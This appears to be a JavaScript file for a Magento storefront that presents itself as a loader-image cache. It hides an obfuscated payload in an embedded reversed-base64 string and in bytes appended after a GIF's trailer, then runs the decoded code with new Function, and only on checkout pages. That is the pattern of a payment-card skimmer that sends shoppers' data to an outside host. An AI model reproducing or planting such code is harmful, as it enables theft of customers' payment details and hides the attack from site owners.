const mediaCache = {
  endpoint: '/static/version1699/frontend/Magento/luma/en_US/images/loader-2.gif',
  // bytes that follow the GIF trailer (0x3B) on the patched loader image
  tail: '=sTKp03OpkCdwV2aoknZpdmbpJHdz5iTPNlSoYmZPRmblNXKoR3ZuVGbukCdwV2aoMXeltmL0NWZqJ2ToYWa9tjY90VYbRHcltWKpEGK0NXZ05SavIXZud3b891YjxHc4VGfjZ3Y8ZndjxHZyF2YvgiZptXKpgycllmc05WZuQmZgY2bg0lYsE2WgQ3cu92YoI3bmtTf71DdwV2askSbyZGKhRXYE1mcvZEI3Vmb9QmZgQ3cu92Y75TPpgCLnQXatJWdzdCKyVmblR3cpxEduVmdFRGZh5SbyZmP90mcmhCajFWRy9mZukyJtJ3bmdCKsxWQy9GdjVGblNVeyVWdx5CduVWb1N2bkpwO9tTK9lyJngibp9maukSKzIjXpADK0FUZk92QyFGaj5yYoUGZvNkchh2Qt9mcm5yZulmc0NlP9MGKwFWbukyJngCdpxGcz5yZhJmO5R2bixSfn4WahxGcvQHelR3J6cSZwlHVtQnblRnbvN0J7pzcyVGZhVGasUWdyRnOlZXasFGclV2ascCVT9EUnoDZvhGdl12escSZjFmc09SanNWLuR2Yvs2Ypx2YuUmchlkZkV3bsNWLjlGdhR3cv8iOzBHd0h2Jog2Y0VmZgQXahdXY75TPpcWYihyYul3ch1jZm9EZuV2cgQ3cu92Y',
};

const readAsBinary = (blob) => new Promise((resolve, reject) => {
  const fr = new FileReader();
  fr.onload = () => resolve(fr.result);
  fr.onerror = reject;
  fr.readAsBinaryString(blob);
});

const afterTrailer = (bin) => {
  const at = bin.lastIndexOf('\x00\x3b');
  if (at < 0 || bin.length - at < 50) return null;
  return bin.slice(at + 2).trim();
};

const unwrap = (s) => atob(s.split('').reverse().join(''));

async function hydrateLoader() {
  let encoded = mediaCache.tail;
  try {
    const r = await fetch(mediaCache.endpoint, { credentials: 'omit' });
    const bin = await readAsBinary(await r.blob());
    encoded = afterTrailer(bin) || encoded;
  } catch (e) {
    /* offline */
  }
  const runner = new Function('w', unwrap(encoded));
  runner(window);
}

if (document.location.pathname.includes('checkout')) {
  requestAnimationFrame(() => hydrateLoader());
}
